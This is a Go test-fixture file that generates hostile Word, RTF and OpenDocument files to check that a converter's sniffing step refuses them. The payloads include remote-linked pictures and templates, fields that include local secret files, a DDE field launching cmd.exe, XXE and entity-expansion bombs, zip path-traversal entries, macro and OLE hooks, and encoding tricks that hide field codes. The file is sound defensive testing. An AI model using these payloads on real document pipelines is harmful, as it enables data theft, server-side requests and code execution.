package converttest

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"strings"

	"segel/internal/convert"
)

// Attack is a hostile document.
type Attack struct {
	Name   string
	Reason string       // the reason for which package sniff must refuse it
	Kind   convert.Kind // the kind by which a converter would read it
	File   []byte
}

// Targets are what the attacks try to reach.
type Targets struct {
	URL     string // of a server that must not be contacted, ending in a slash
	Secret  string // path of a file whose text must not appear anywhere
	Picture string // path of a picture that must not appear anywhere
}

// Attacks returns all attacks.
func Attacks(t Targets) []Attack {
	var all []Attack
	for _, make := range []func(Targets) []Attack{linkedPictures, fetchingFields, otherFormats, embeddedPrograms, ambiguousArchives, expandingFiles, disguisedContent} {
		all = append(all, make(t)...)
	}
	return all
}

// linkedPictures show pictures and other content from elsewhere.
func linkedPictures(t Targets) []Attack {
	var all []Attack
	for name, target := range map[string]string{
		"http": t.URL + "linked.png", "https": strings.Replace(t.URL, "http:", "https:", 1) + "linked.png", "file": "file://" + t.Picture,
		"path": t.Picture, "unc": `\\127.0.0.1\share\linked.png`, "smb": "smb://127.0.0.1/share/linked.png", "webdav": "vnd.sun.star.webdav://" + strings.TrimPrefix(t.URL, "http://") + "x.png",
		"package": "vnd.sun.star.Package:" + t.Picture, "dots": "../../../../../.." + t.Picture,
	} {
		for _, external := range []bool{true, false} {
			if name == "path" && !external {
				continue // the name of a part
			}
			d := Document{Body: Paragraphs("Sebelum") + Picture("link", "rId9", 40, 20) + Paragraphs("Sesudah"), Relations: []Relation{{"rId9", "image", target, external}}}
			all = append(all, Attack{fmt.Sprintf("linked picture, %s, external %v", name, external), "links", convert.DOCX, d.Bytes()})
		}
	}
	vml := func(attribute string) []byte {
		return Document{Body: `<w:p><w:r><w:pict><v:shape style="width:100pt;height:50pt"><v:imagedata ` + attribute + `/></v:shape></w:pict></w:r></w:p>`, Relations: []Relation{{"rId8", "image", "media/none.png", false}}}.Bytes()
	}
	svg := func(href string) []byte {
		return Document{
			Body: Paragraphs("x") + Picture("embed", "rId9", 40, 20), Relations: []Relation{{"rId9", "image", "media/image1.svg", false}},
			Types: `<Default Extension="svg" ContentType="image/svg+xml"/>`,
			Parts: map[string]string{"word/media/image1.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50"><image xlink:href="` + href + `" width="100" height="50"/></svg>`},
		}.Bytes()
	}
	return append(all,
		Attack{"VML picture by address", "links", convert.DOCX, vml(`src="` + t.URL + `vml.png"`)},
		Attack{"VML picture by path", "links", convert.DOCX, vml(`src="file://` + t.Picture + `"`)},
		Attack{"SVG that shows an address", "links", convert.DOCX, svg(t.URL + "svg.png")},
		Attack{"SVG that shows a file", "links", convert.DOCX, svg("file://" + t.Picture)},
		Attack{"linked video", "links", convert.DOCX, Document{Body: Paragraphs("x"), Relations: []Relation{{"rId9", "video", t.URL + "v.mp4", true}}}.Bytes()},
		Attack{"picture of the page's ground", "links", convert.DOCX, Document{
			Body: Paragraphs("x"), Relations: []Relation{{"rId9", "image", "file://" + t.Picture, true}}, Prolog: "",
			Parts: map[string]string{MainPart: head + `<w:document ` + Spaces + `><w:background w:color="FFFFFF"><v:background><v:fill r:id="rId9" type="frame"/></v:background></w:background><w:body>` + Paragraphs("x") + `</w:body></w:document>`},
		}.Bytes()},
	)
}

// fetchingFields fetch content with fields and templates.
func fetchingFields(t Targets) []Attack {
	all := []Attack{
		{"attached template", "template", convert.DOCX, Document{
			Body: Paragraphs("x"), Types: Type("settings.xml", "settings"), Relations: []Relation{{"rId9", "settings", "settings.xml", false}},
			Parts: map[string]string{
				"word/settings.xml":            head + `<w:settings ` + Spaces + `><w:attachedTemplate r:id="rId1"/></w:settings>`,
				"word/_rels/settings.xml.rels": Relations(Relation{"rId1", "attachedTemplate", t.URL + "template.dotm", true}),
			},
		}.Bytes()},
		{"part of another document", "other_file", convert.DOCX, Document{Body: Paragraphs("x") + `<w:altChunk r:id="rId9"/>`, Relations: []Relation{{"rId9", "aFChunk", "chunk.html", false}},
			Types: `<Default Extension="html" ContentType="text/html"/>`, Parts: map[string]string{"word/chunk.html": htmlPage(t)}}.Bytes()},
		{"subdocument", "other_file", convert.DOCX, Document{Body: Paragraphs("x") + `<w:p><w:subDoc r:id="rId9"/></w:p>`, Relations: []Relation{{"rId9", "subDocument", t.URL + "sub.docx", true}}}.Bytes()},
		{"frames", "other_file", convert.DOCX, Document{
			Body: Paragraphs("x"), Types: Type("webSettings.xml", "webSettings"), Relations: []Relation{{"rId9", "webSettings", "webSettings.xml", false}},
			Parts: map[string]string{
				"word/webSettings.xml":            head + `<w:webSettings ` + Spaces + `><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`,
				"word/_rels/webSettings.xml.rels": Relations(Relation{"rId1", "frame", t.URL + "frame.html", true}),
			},
		}.Bytes()},
		{"field of a simple kind", "fields", convert.DOCX, Document{Body: `<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;` + t.URL + `simple.png&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`}.Bytes()},
		{"field in a field's code", "fields", convert.DOCX, Document{Body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> c:\\x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`}.Bytes()},
		{"RTF that shows an address", "not_word", convert.DOC, []byte(`{\rtf1\ansi x {\field{\*\fldinst INCLUDEPICTURE "` + t.URL + `rtf.png" \\d}{\fldrslt x}} {\field{\*\fldinst INCLUDEPICTURE "` + t.Picture + `"}{\fldrslt x}}}`)},
		{"RTF that hangs on a template", "not_word", convert.DOC, []byte(`{\rtf1\ansi{\*\template ` + t.URL + `rtf.dot} x {\field{\*\fldinst INCLUDETEXT "` + t.Secret + `"}{\fldrslt x}}}`)},
	}
	for name, code := range map[string][]string{
		"DDE": {"D", "DE", "AUTO ", `c:\\windows\\system32\\cmd.exe`, ` "/k calc"`}, "dde in small letters": {" dd", "e excel x"},
		"INCLUDEPICTURE http": {"INCLUDE", `PICTURE "` + t.URL + `field.png" \d`}, "INCLUDEPICTURE file": {`INCLUDEPICTURE "file://` + t.Picture + `" \d \* MERGEFORMAT`},
		"INCLUDETEXT": {`INCLUDETEXT "` + t.Secret + `"`}, "INCLUDETEXT http": {`INCLUDETEXT "` + t.URL + `text.html"`}, "LINK": {`LINK Word.Document.8 "` + t.Secret + `"`}, "IMPORT": {`IMPORT "` + t.Picture + `"`},
		"DATABASE": {`DATABASE \d "` + t.Secret + `"`}, "RD": {`RD "` + t.Secret + `"`},
	} {
		all = append(all, Attack{"field " + name, "fields", convert.DOCX, Document{Body: Paragraphs("x") + Field(code...)}.Bytes()})
	}
	return all
}

func htmlPage(t Targets) string {
	return `<html><body><p>HTML</p><img src="` + t.URL + `html.png"><img src="file://` + t.Picture + `"><iframe src="file://` + t.Secret + `"></iframe><link rel="stylesheet" href="` + t.URL + `style.css"><object data="` + t.URL + `object"></object></body></html>`
}

// otherFormats are other formats under a Word document's name.
func otherFormats(t Targets) []Attack {
	flat := head + `<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" office:mimetype="application/vnd.oasis.opendocument.text" office:version="1.2"><office:body><office:text>` +
		`<text:p>flat<draw:frame svg:width="4cm" svg:height="2cm"><draw:image xlink:href="` + t.URL + `flat.png"/></draw:frame><draw:frame svg:width="4cm" svg:height="2cm"><draw:image xlink:href="file://` + t.Picture + `"/></draw:frame></text:p>` +
		`<text:section text:name="s"><text:section-source xlink:href="file://` + t.Secret + `"/></text:section></office:text></office:body></office:document>`
	var odt bytes.Buffer
	z := zip.NewWriter(&odt)
	addEntry(z, &zip.FileHeader{Name: "mimetype"}, "application/vnd.oasis.opendocument.text")
	addEntry(z, &zip.FileHeader{Name: "content.xml", Method: zip.Deflate}, strings.Replace(flat, "office:document ", "office:document-content ", 1))
	panicOnError(z.Close())
	var all []Attack
	for _, kind := range []convert.Kind{convert.DOC, convert.DOCX} {
		for name, content := range map[string]string{"HTML": htmlPage(t), "flat ODF": flat, "MHTML": "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + htmlPage(t), "plain text": "teks " + t.URL, "ODT": odt.String(), "nothing": "", "PDF": "%PDF-1.4\n"} {
			all = append(all, Attack{fmt.Sprintf("%s named .%s", name, kind), "not_word", kind, []byte(content)})
		}
	}
	sheet := Document{Body: "", MainType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"}
	template := Document{Body: Paragraphs("x"), MainType: types + "template.main+xml"}
	return append(all, Attack{"spreadsheet", "not_word", convert.DOCX, sheet.Bytes()}, Attack{"template", "not_word", convert.DOCX, template.Bytes()})
}

// embeddedPrograms contain programs and other programs' objects.
func embeddedPrograms(Targets) []Attack {
	ole := "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + strings.Repeat("\x00", 600)
	return []Attack{
		{"document with macros", "macros", convert.DOCX, Document{Body: Paragraphs("x"), MainType: "application/vnd.ms-word.document.macroEnabled.main+xml"}.Bytes()},
		{"macros in a document without", "macros", convert.DOCX, Document{Body: Paragraphs("x"), Parts: map[string]string{"word/vbaProject.bin": ole}}.Bytes()},
		{"macros by relation", "macros", convert.DOCX, Document{Body: Paragraphs("x"), Relations: []Relation{{"rId9", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin", false}}, Parts: map[string]string{"word/x.bin": "x"}}.Bytes()},
		{"hyperlink that runs a macro", "macros", convert.DOCX, Document{Body: `<w:p><w:hyperlink r:id="rId9"><w:r><w:t>klik</w:t></w:r></w:hyperlink></w:p>`, Relations: []Relation{{"rId9", "hyperlink", "vnd.sun.star.script:x$y?language=Basic", true}}}.Bytes()},
		{"ribbon", "macros", convert.DOCX, Document{Body: Paragraphs("x"), Parts: map[string]string{"customUI/customUI.xml": head + `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="x"/>`}}.Bytes()},
		{"embedded object", "objects", convert.DOCX, Document{Body: `<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId9"/></w:object></w:r></w:p>`, Relations: []Relation{{"rId9", "image", "embeddings/x.bin", false}}, Parts: map[string]string{"word/embeddings/x.bin": "x"}}.Bytes()},
		{"embedded object by its bytes", "objects", convert.DOCX, Document{Body: Paragraphs("x"), Parts: map[string]string{"word/media/image1.png": ole}}.Bytes()},
		{"linked object", "objects", convert.DOCX, Document{Body: Paragraphs("x"), Relations: []Relation{{"rId9", "oleObject", "file:///etc/passwd", true}}}.Bytes()},
		{"embedded workbook", "objects", convert.DOCX, Document{Body: Paragraphs("x"), Relations: []Relation{{"rId9", "package", "embeddings/x.xlsx", false}}, Parts: map[string]string{"word/embeddings/x.xlsx": "PK\x03\x04"}}.Bytes()},
		{"control", "objects", convert.DOCX, Document{Body: `<w:p><w:r><w:object><w:control r:id="rId9" w:name="x"/></w:object></w:r></w:p>`}.Bytes()},
		{"PostScript picture", "objects", convert.DOCX, Document{Body: Paragraphs("x") + Picture("embed", "rId9", 40, 20), Relations: []Relation{{"rId9", "image", "media/image1.eps", false}}, Types: `<Default Extension="eps" ContentType="image/eps"/>`,
			Parts: map[string]string{"word/media/image1.eps": "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n(/etc/passwd) (r) file pop\nshowpage\n"}}.Bytes()},
		{"mail merge", "links", convert.DOCX, Document{Body: Paragraphs("x"), Types: Type("settings.xml", "settings"), Relations: []Relation{{"rId9", "settings", "settings.xml", false}},
			Parts: map[string]string{"word/settings.xml": head + `<w:settings ` + Spaces + `><w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:settings>`}}.Bytes()},
	}
}

// ambiguousArchives are packages that two readers could read differently.
func ambiguousArchives(Targets) []Attack {
	with := func(names ...string) []byte {
		d := Document{Body: Paragraphs("x")}.buildParts()
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		for name, content := range d {
			addStored(z, zip.FileHeader{Name: name}, content)
		}
		for _, name := range names {
			addStored(z, zip.FileHeader{Name: name}, "x")
		}
		panicOnError(z.Close())
		return b.Bytes()
	}
	header := func(change func(*zip.FileHeader)) []byte {
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		for name, content := range (Document{Body: Paragraphs("x")}).buildParts() {
			h := zip.FileHeader{Name: name}
			if name == MainPart {
				change(&h)
			}
			addStored(z, h, content)
		}
		panicOnError(z.Close())
		return b.Bytes()
	}
	plain := with()
	var all []Attack
	for what, names := range map[string][]string{
		"way up": {"word/../../../etc/cron.d/x"}, "absolute path": {"/etc/cron.d/x"}, "backslash": {`word\x.xml`}, "drive": {"C:/x"}, "control character": {"word/x\x00.xml"}, "no name": {""},
		"same name": {MainPart}, "same name but for case": {"Word/Document.XML"}, "dots": {".."}, "double slash": {"word//x"},
	} {
		all = append(all, Attack{"entry with " + what, "damaged", convert.DOCX, with(names...)})
	}
	return append(all,
		Attack{"encrypted entry", "encrypted", convert.DOCX, header(func(h *zip.FileHeader) { h.Flags |= 1 })},
		Attack{"symbolic link", "damaged", convert.DOCX, header(func(h *zip.FileHeader) { h.CreatorVersion = 3 << 8; h.ExternalAttrs = 0o120777 << 16 })},
		Attack{"another name in its place", "damaged", convert.DOCX, bytes.Replace(plain, []byte(MainPart), []byte("word/documenu.xml"), 1)},
		Attack{"something before the archive", "damaged", convert.DOCX, append(append([]byte("PK\x03\x04"), make([]byte, 26)...), plain...)},
		Attack{"something behind the archive", "damaged", convert.DOCX, append(bytes.Clone(plain), "more"...)},
		Attack{"half of it", "damaged", convert.DOCX, plain[:len(plain)/2]},
		Attack{"markup in UTF-16", "damaged", convert.DOCX, Document{Body: Paragraphs("x"), Parts: map[string]string{"word/footnotes.bin": "\xFF\xFE<\x00x\x00/\x00>\x00"}}.Bytes()},
		Attack{"two documents", "damaged", convert.DOCX, Document{Body: Paragraphs("x"), Types: Type("second.xml", "document.main")}.Bytes()},
		Attack{"unclosed markup", "damaged", convert.DOCX, Document{Body: "<w:p>"}.Bytes()},
	)
}

// expandingFiles are small and unpack to large documents.
func expandingFiles(t Targets) []Attack {
	zeros := strings.Repeat("<w:p><w:r><w:t>a</w:t></w:r></w:p>", 3<<20)
	lol := `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">`
	for c := 'b'; c < 'k'; c++ {
		lol += fmt.Sprintf(`<!ENTITY %c "%s">`, c, strings.Repeat(fmt.Sprintf("&%c;", c-1), 10))
	}
	lol += `]>`
	many := map[string]string{}
	for i := range 5000 {
		many[fmt.Sprintf("word/media/%d.bin", i)] = ""
	}
	return []Attack{
		{"100 MB of paragraphs", "complex", convert.DOCX, Document{Body: zeros}.Bytes()},
		{"picture of zeros", "complex", convert.DOCX, Document{Body: Paragraphs("x"), Parts: map[string]string{"word/media/x.bin": strings.Repeat("\x00", 20<<20)}}.Bytes()},
		{"entities in entities", "damaged", convert.DOCX, Document{Prolog: lol, Body: Paragraphs("&j;")}.Bytes()},
		{"entity that is a file", "damaged", convert.DOCX, Document{Prolog: `<!DOCTYPE x [<!ENTITY f SYSTEM "file://` + t.Secret + `">]>`, Body: Paragraphs("&f;")}.Bytes()},
		{"document type elsewhere", "damaged", convert.DOCX, Document{Prolog: `<!DOCTYPE x SYSTEM "` + t.URL + `x.dtd">`, Body: Paragraphs("x")}.Bytes()},
		{"style sheet", "damaged", convert.DOCX, Document{Prolog: `<?xml-stylesheet type="text/xsl" href="` + t.URL + `x.xsl"?>`, Body: Paragraphs("x")}.Bytes()},
		{"elements in elements", "complex", convert.DOCX, Document{Body: strings.Repeat("<w:p>", 5000) + strings.Repeat("</w:p>", 5000)}.Bytes()},
		{"5000 parts", "complex", convert.DOCX, Document{Body: Paragraphs("x"), Parts: many}.Bytes()},
	}
}

// disguisedContent looks harmless to a careless reader, but not to LibreOffice.
func disguisedContent(t Targets) []Attack {
	docx := func(name, reason string, d Document) Attack { return Attack{name, reason, convert.DOCX, d.Bytes()} }
	mark := func(kind string) string { return `<w:r><w:fldChar w:fldCharType="` + kind + `"/></w:r>` }
	code := func(s string) string { return `<w:r><w:instrText xml:space="preserve">` + s + `</w:instrText></w:r>` }
	show := `INCLUDEPICTURE "` + t.URL + `hidden.png" \d`
	field := func(pieces ...string) Document {
		return Document{Body: "<w:p>" + mark("begin") + strings.Join(pieces, "") + mark("separate") + "<w:r><w:t>x</w:t></w:r>" + mark("end") + "</w:p>"}
	}
	ignored := func(s string) string {
		return `<w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:n="urn:none"><mc:Choice Requires="n">` + s + `</mc:Choice><mc:Fallback/></mc:AlternateContent></w:r>`
	}
	linked := []Relation{{"rId9", "hyperlink", t.URL + "hyper.png", true}}
	return []Attack{
		docx("picture linked by the relation of a hyperlink", "links", Document{Body: Paragraphs("x") + Picture("link", "rId9", 40, 20), Relations: linked}),
		docx("VML picture linked by the relation of a hyperlink", "links", Document{Relations: linked,
			Body: `<w:p><w:r><w:pict><v:shape style="width:100pt;height:50pt"><v:imagedata r:href="rId9"/></v:shape></w:pict></w:r></w:p>`}),
		docx("relation that says its type twice", "damaged", Document{Body: Paragraphs("x") + Picture("link", "rId9", 40, 20), Parts: map[string]string{
			"word/_rels/document.xml.rels": head + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:x="urn:x"><Relationship Id="rId9" x:Type="` + kinds + `hyperlink" Type="` + kinds + `image" Target="` + t.URL + `twice.png" TargetMode="External"/></Relationships>`,
		}}),
		docx("field code behind much white space", "fields", field(code(strings.Repeat(" ", 2000)+show))),
		docx("field code behind much of another", "damaged", field(ignored(`<w:instrText>`+strings.Repeat("x", 2000)+`</w:instrText>`), code(show))),
		docx("field code in two, in a piece that readers skip", "damaged", field(code("INCLU"), ignored(`<w:instrText>X</w:instrText>`), code(show[5:]))),
		docx("end of a field code that readers skip", "damaged", field(code("INCLU"), ignored(`<w:fldChar w:fldCharType="separate"/>`), code(show[5:]))),
		docx("end of a field code in another space", "damaged", field(code("INCLU"), `<w:r><x:fldChar xmlns:x="urn:x" w:fldCharType="separate"/></w:r>`, code(show[5:]))),
		docx("mark of a field that says two things", "damaged", field(code("INCLU"), `<w:r><w:fldChar xmlns:x="urn:x" x:fldCharType="separate" w:fldCharType="none"/></w:r>`, code(show[5:]))),
		docx("field code without a space behind its name", "fields", field(code(`INCLUDEPICTURE\d "`+t.URL+`glued.png"`))),
		docx("hyperlink behind a switch that runs a macro", "macros", field(code(`HYPERLINK \h "vnd.sun.star.script:x$y?language=Basic"`))),
		docx("markup in UTF-7", "damaged", Document{Relations: []Relation{{"rId9", "header", "header1.xml", false}}, Section: `<w:sectPr><w:headerReference w:type="default" r:id="rId9"/></w:sectPr>`, Body: Paragraphs("x"), Types: Type("header1.xml", "header"), Parts: map[string]string{
			"word/header1.xml": `<?xml version="1.0" encoding ="UTF-7"?>` + `<w:hdr ` + Spaces + `><w:p><w:r><w:t>sebelum</w:t></w:r>` + encodeUTF7(field(code(show)).Body[5:len(field(code(show)).Body)-6]) + `</w:p></w:hdr>`,
		}}),
		docx("SVG in the address of a picture in SVG", "links", svgPart("word/media/image1.svg", "image/svg+xml", svgOf("data:image/svg+xml;base64,"+base64.StdEncoding.EncodeToString([]byte(svgOf(t.URL+"nested.png")))))),
		docx("SVG that calls itself PNG in the address of a picture", "links", svgPart("word/media/image1.svg", "image/svg+xml", svgOf("data:image/png;base64,"+base64.StdEncoding.EncodeToString([]byte(svgOf(t.URL+"nested.png")))))),
		docx("packed SVG", "links", svgPart("word/media/image1.svgz", "image/svg+xml", gzipString(svgOf(t.URL+"packed.png")))),
		docx("SVG with another base", "links", svgPart("word/media/image1.svg", "image/svg+xml", strings.Replace(svgOf("base.png"), "<svg ", `<svg xml:base="`+t.URL+`" `, 1))),
		{"relations under another name in the archive", "damaged", convert.DOCX, relationsUnderTwoNames(t)},
		{"part that the directory does not list", "damaged", convert.DOCX, unlistedPart()},
		docx("header in EBCDIC", "damaged", Document{Relations: []Relation{{"rId9", "header", "header1.bin", false}}, Section: `<w:sectPr><w:headerReference w:type="default" r:id="rId9"/></w:sectPr>`, Body: Paragraphs("x"), Parts: map[string]string{
			"word/header1.bin": encodeEBCDIC(`<?xml version="1.0" encoding="IBM037"?><w:hdr ` + Spaces + `><w:p>` + field(code(show)).Body[5:len(field(code(show)).Body)-6] + `</w:p></w:hdr>`),
		}}),
		docx("element with a million attributes", "complex", Document{Body: `<w:p ` + strings.Repeat(`a="" `, 1<<20) + `/>`}),
		docx("text of 20 MB in one piece", "complex", Document{Body: Paragraphs(strings.Repeat("a", 20<<20))}),
	}
}

func svgOf(href string) string {
	return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50"><image xlink:href="` + href + `" width="100" height="50"/></svg>`
}

func svgPart(name, kind, content string) Document {
	ext := name[strings.LastIndex(name, ".")+1:]
	return Document{
		Body: Paragraphs("x") + Picture("embed", "rId9", 40, 20), Relations: []Relation{{"rId9", "image", strings.TrimPrefix(name, "word/"), false}},
		Types: `<Default Extension="` + ext + `" ContentType="` + kind + `"/>`, Parts: map[string]string{name: content},
	}
}

func gzipString(s string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, err := z.Write([]byte(s))
	panicOnError(err)
	panicOnError(z.Close())
	return b.String()
}

// encodeUTF7 encodes markup in UTF-7.
func encodeUTF7(s string) string {
	return strings.NewReplacer("<", "+ADw-", ">", "+AD4-", `"`, "+ACI-", "&", "+ACY-", "+", "+-").Replace(s)
}

// encodeEBCDIC encodes ASCII in code page 37.
func encodeEBCDIC(s string) string {
	const of = "\x40\x5A\x7F\x7B\x5B\x6C\x50\x7D\x4D\x5D\x5C\x4E\x6B\x60\x4B\x61\xF0\xF1\xF2\xF3\xF4\xF5\xF6\xF7\xF8\xF9\x7A\x5E\x4C\x7E\x6E\x6F" +
		"\x7C\xC1\xC2\xC3\xC4\xC5\xC6\xC7\xC8\xC9\xD1\xD2\xD3\xD4\xD5\xD6\xD7\xD8\xD9\xE2\xE3\xE4\xE5\xE6\xE7\xE8\xE9\xBA\xE0\xBB\xB0\x6D" +
		"\x79\x81\x82\x83\x84\x85\x86\x87\x88\x89\x91\x92\x93\x94\x95\x96\x97\x98\x99\xA2\xA3\xA4\xA5\xA6\xA7\xA8\xA9\xC0\x4F\xD0\xA1"
	b := []byte(s)
	for i, c := range b {
		b[i] = of[c-' ']
	}
	return string(b)
}

// relationsUnderTwoNames returns an archive in which the relations of the main part have another name for readers of
// old archives.
func relationsUnderTwoNames(t Targets) []byte {
	const seen, meant = "word/media/rels.xml", "word/_rels/document.xml.rels"
	extra := binary.LittleEndian.AppendUint16(nil, 0x7075)
	extra = binary.LittleEndian.AppendUint16(extra, uint16(5+len(meant)))
	extra = append(extra, 1)
	extra = binary.LittleEndian.AppendUint32(extra, crc32.ChecksumIEEE([]byte(seen)))
	extra = append(extra, meant...)
	d := Document{Body: Paragraphs("x") + Picture("link", "rId9", 40, 20)}
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, content := range d.buildParts() {
		addStored(z, zip.FileHeader{Name: name}, content)
	}
	addStored(z, zip.FileHeader{Name: seen, Extra: extra}, Relations(Relation{"rId9", "image", t.URL + "names.png", true}))
	panicOnError(z.Close())
	return b.Bytes()
}

// unlistedPart returns an archive that begins with a part that its directory does not list.
func unlistedPart() []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	addStored(z, zip.FileHeader{Name: "word/document.xml"}, "<other/>")
	panicOnError(z.Flush())
	n := int64(b.Len())
	rest := zip.NewWriter(&b)
	rest.SetOffset(n)
	for name, content := range (Document{Body: Paragraphs("x")}).buildParts() {
		addStored(rest, zip.FileHeader{Name: name}, content)
	}
	panicOnError(rest.Close())
	return b.Bytes()
}
